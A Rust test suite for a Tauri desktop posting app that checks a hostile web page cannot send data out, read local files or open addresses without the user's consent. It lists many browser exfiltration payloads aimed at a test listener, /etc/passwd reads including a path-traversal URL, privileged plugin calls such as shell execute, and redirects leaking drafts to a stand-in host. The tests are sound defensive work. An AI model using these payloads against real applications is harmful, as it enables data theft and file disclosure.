//! The pages run somebody else's script: it reads no file and no secret, and nothing leaves this computer by it
//! unless the person agrees in a dialog of the desktop's own.

use std::{
    io::ErrorKind,
    net::{SocketAddr, TcpListener},
    path::Path,
    time::Duration,
};

use sendoff_core::{
    connection::{ConnectionSettings, ServiceKind},
    delivery::DeliveryState,
};
use sendoff_desk::{
    OpenOptions, SecretsChoice,
    api::{ConnectionAdd, DraftCreate, DraftRef},
};
use sendoff_practice::{Options, Practice};
use sendoff_tests::{
    screen::Screen,
    window::{Seen, Window},
};
use serde_json::json;

use crate::{
    WELCOME,
    closing::{gone, shown, until},
};

const PATIENCE: Duration = Duration::from_mins(1);
const NEW_ADDRESS: &str = "Connect to a new address?";
const BROWSER: &str = "Open in the browser?";

/// Somebody who waits for what the page lets slip.
struct Elsewhere(TcpListener);

impl Elsewhere {
    fn waits() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Self(listener)
    }

    fn address(&self) -> SocketAddr {
        self.0.local_addr().unwrap()
    }

    fn heard_nothing(&self) {
        let connection = self.0.accept().map(|(_, peer)| peer);
        assert_eq!(
            connection.map_err(|error| error.kind()),
            Err(ErrorKind::WouldBlock)
        );
    }
}

/// Every way out of a page that needs nobody's hand; `A` is the address. Each ends when the web view has decided.
const WAYS_OUT: &[(&str, &str)] = &[
    ("fetch", "await fetch('http://A/')"),
    (
        "fetch without cors",
        "await fetch('http://A/', { mode: 'no-cors', method: 'POST', body: 'x' })",
    ),
    (
        "xhr",
        "await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = ok; x.onerror = no; x.open('GET', 'http://A/'); x.send() })",
    ),
    (
        "web socket",
        "await new Promise((ok, no) => { const s = new WebSocket('ws://A/'); s.onopen = ok; s.onerror = no })",
    ),
    (
        "event source",
        "await new Promise((ok, no) => { const s = new EventSource('http://A/'); s.onopen = ok; s.onerror = no })",
    ),
    (
        "beacon",
        "if (!navigator.sendBeacon('http://A/', 'x')) throw 0; await violation()",
    ),
    ("image", "await element('img', { src: 'http://A/i.png' })"),
    ("script", "await element('script', { src: 'http://A/c.js' })"),
    (
        "style sheet",
        "await element('link', { rel: 'stylesheet', href: 'http://A/s.css' })",
    ),
    ("import", "await import('http://A/m.js')"),
    (
        "worker",
        "await new Promise((ok, no) => { const w = new Worker('http://A/w.js'); w.onmessage = ok; w.onerror = no })",
    ),
    ("video", "await element('video', { src: 'http://A/v.mp4' })"),
    (
        "imported style",
        "const v = violation(); style(\"@import url('http://A/s.css')\"); await v",
    ),
    (
        "background",
        "const v = violation(); style(\"body { background: url('http://A/b.png') }\"); await v",
    ),
    (
        "font",
        "const v = violation(); style(\"@font-face { font-family: f; src: url('http://A/f.woff') } h1 { font-family: f }\"); await v",
    ),
    (
        "frame",
        "const v = violation(); document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://A/' })); await v",
    ),
    (
        "object",
        "const v = violation(); document.body.append(Object.assign(document.createElement('object'), { data: 'http://A/' })); await v",
    ),
    (
        "form",
        "const v = violation(); const f = Object.assign(document.createElement('form'), { action: 'http://A/', method: 'post' }); document.body.append(f); f.submit(); await v",
    ),
    ("file", "await fetch('file:///etc/passwd')"),
    (
        "own scheme",
        "await fetch('tauri://localhost/../../../../etc/passwd')",
    ),
    ("asset scheme", "await fetch('asset://localhost/etc/passwd')"),
    (
        "file image",
        "await element('img', { src: 'file:///etc/passwd' })",
    ),
];

const TOOLS: &str = "
    const violation = () => new Promise((_, no) => document.addEventListener('securitypolicyviolation', no, { once: true }));
    const element = (name, fields) => new Promise((ok, no) => {
        const made = Object.assign(document.createElement(name), fields);
        made.onload = made.onloadeddata = ok; made.onerror = no;
        document.body.append(made);
    });
    const style = (text) => { const made = document.createElement('style'); made.textContent = text; document.head.append(made) };";

#[tokio::test]
async fn a_hostile_page_finds_no_way_out_and_reads_no_file() {
    let data = tempfile::tempdir().unwrap();
    let window = Window::open("ways-out", data.path()).await.unwrap();
    window.see(Seen::Heading(WELCOME)).await.unwrap();
    let elsewhere = Elsewhere::waits();
    for (way, script) in WAYS_OUT {
        let script = script.replace("http://A", &format!("http://{}", elsewhere.address()));
        let script = script.replace("ws://A", &format!("ws://{}", elsewhere.address()));
        let tried = window
            .ask(&format!("{TOOLS} {script}; return 'it came through'"))
            .await
            .unwrap();
        assert!(tried.is_err(), "{way}: {tried:?}");
    }
    // Calls of conferences go past the policy of the page.
    let conference = window.run("return typeof RTCPeerConnection").await.unwrap();
    assert_eq!(conference, "undefined");
    for hint in ["preconnect", "dns-prefetch", "prefetch", "preload"] {
        let link = format!(
            "const link = Object.assign(document.createElement('link'), {{ rel: '{hint}', as: 'image', href: 'http://{}/' }});
             document.head.append(link)",
            elsewhere.address()
        );
        window.run(&link).await.unwrap();
    }
    for forbidden in [
        "plugin:fs|read_text_file",
        "plugin:opener|open_url",
        "plugin:opener|open_path",
        "plugin:shell|execute",
        "plugin:dialog|open",
        "plugin:dialog|save",
        "plugin:http|fetch",
        "plugin:webview|create_webview_window",
        "plugin:window-state|save_window_state",
        "plugin:path|resolve_directory",
        "plugin:resources|close",
    ] {
        let asked = window
            .ask(&format!(
                "return await window.__TAURI_INTERNALS__.invoke('{forbidden}', {{}})"
            ))
            .await
            .unwrap();
        let refusal = asked.expect_err(forbidden);
        assert!(
            refusal.contains("not allowed") || refusal.contains("not found"),
            "{forbidden}: {refusal}"
        );
    }
    // A whole exchange with the shell lies between the last hint and this.
    window.rpc("app_state", "{}").await.unwrap().unwrap();
    elsewhere.heard_nothing();
    window.close().await.unwrap();
}

/// A script that adds a connection of its own would send there what it likes: the person is asked first, once
/// at a time, and whoever does not answer *yes* has said no.
#[tokio::test]
async fn a_hostile_page_can_connect_to_nothing_by_itself() {
    let data = tempfile::tempdir().unwrap();
    let window = Window::open("no-consent", data.path()).await.unwrap();
    let screen = Screen::look_at(window.display()).unwrap();
    window.see(Seen::Heading(WELCOME)).await.unwrap();
    let elsewhere = Elsewhere::waits();
    let payload = json!({ "service": "letmepost", "name": "Mine", "secret": "lmp_live_stolen",
        "base_url": format!("http://{}/drafts-go-here", elsewhere.address()) });
    let ask = format!(
        "window.answer = null;
         window.__TAURI_INTERNALS__.invoke('rpc', {{ command: 'connection_add', payload: {payload} }})
             .then(() => {{ window.answer = 'added' }}, (error) => {{ window.answer = JSON.stringify(error.message) }})"
    );
    window.run(&ask).await.unwrap();
    let question = shown(&screen, NEW_ADDRESS).await;
    elsewhere.heard_nothing();
    let second = window.rpc("connection_add", &payload.to_string()).await.unwrap();
    assert!(
        second.unwrap_err().contains("Nothing was sent"),
        "one question at a time"
    );

    screen.close(question).unwrap();
    gone(&screen, NEW_ADDRESS).await;
    let answer = window
        .wait_for("the refusal", "return window.answer")
        .await
        .unwrap();
    assert!(answer.as_str().unwrap().contains("Nothing was sent"), "{answer}");
    elsewhere.heard_nothing();
    let connections = window.rpc("connection_list", "{}").await.unwrap().unwrap();
    assert_eq!(connections, json!([]));
    window.close().await.unwrap();
}

/// Publishes one post through a login of its own, and gives the address that the service gave for it.
fn published(data: &Path, practice: &Practice) -> String {
    let profile = practice.profile().unwrap();
    let desk = sendoff_desk::open(OpenOptions::new(data, data.join("state"), SecretsChoice::File)).unwrap();
    let added = desk
        .connection_add(ConnectionAdd {
            service: ServiceKind::Letmepost,
            name: "Agency".to_owned(),
            base_url: profile.letmepost.base_url.clone(),
            secret: profile.letmepost.key.expose().to_owned(),
            workspace: None,
            settings: ConnectionSettings::default(),
        })
        .unwrap();
    let draft = desk
        .draft_create(DraftCreate {
            text: "Look here.".to_owned(),
            targets: vec![added.accounts[0].id],
            variants: std::collections::BTreeMap::new(),
            label: None,
            same_profile_confirmed: false,
        })
        .unwrap()
        .summary
        .id;
    let events = desk.subscribe();
    desk.start_sender().unwrap();
    desk.publish_now(DraftRef { draft }).unwrap();
    loop {
        let delivery = desk
            .draft_show(DraftRef { draft })
            .unwrap()
            .summary
            .deliveries
            .remove(0);
        if delivery.state == DeliveryState::Published {
            desk.stop_sender();
            return delivery.url.unwrap();
        }
        events.recv_timeout(PATIENCE).expect("a result");
    }
}

/// The browser is a way out too: only the address that a service gave for a post of the person's is opened
/// without a question.
#[tokio::test]
async fn a_hostile_page_opens_no_address_of_its_own_in_the_browser() {
    let data = tempfile::tempdir().unwrap();
    let service = tempfile::tempdir().unwrap();
    let address = SocketAddr::from(([127, 0, 0, 1], 0));
    let practice = Practice::start(Options::serve(service.path(), address)).unwrap();
    // The desk brings a runtime of its own, which must not be made within this one.
    let known = std::thread::scope(|scope| {
        let publishing = scope.spawn(|| published(data.path(), &practice));
        publishing.join().unwrap()
    });
    let window = Window::open("browser", data.path()).await.unwrap();
    let screen = Screen::look_at(window.display()).unwrap();
    window.see(Seen::TestId("nav-activity")).await.unwrap();

    for leave in [
        "location.href = 'https://elsewhere.invalid/?drafts=all'",
        "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0; url=https://elsewhere.invalid/' }))",
    ] {
        window.run(leave).await.unwrap();
        let question = shown(&screen, BROWSER).await;
        screen.close(question).unwrap();
        gone(&screen, BROWSER).await;
        assert!(window.opened().is_empty(), "{leave}");
    }

    window.run(&format!("location.href = '{known}'")).await.unwrap();
    until("the browser", || (!window.opened().is_empty()).then_some(())).await;
    assert_eq!(window.opened(), [known]);
    assert_eq!(screen.window(BROWSER).unwrap(), None);
    window.see(Seen::TestId("nav-activity")).await.unwrap();
    window.close().await.unwrap();
}
